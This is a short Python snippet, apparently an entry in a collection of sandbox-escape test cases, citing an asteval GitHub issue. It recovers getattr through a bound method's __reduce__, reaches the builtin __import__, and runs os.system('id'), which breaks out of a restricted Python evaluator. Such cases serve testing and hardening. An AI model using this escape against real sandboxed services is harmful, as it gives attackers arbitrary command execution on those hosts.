# Source: https://github.com/lmfit/asteval/issues/86 (print.__reduce__() gives getattr)
# Family: getattribute
# What: a bound method's __reduce__ returns (getattr, (obj, name)): getattr without naming it
ga = [].append.__reduce__()[0]
imp = ga(ga(print, "__self__"), "__import__")
imp("os").system("id")
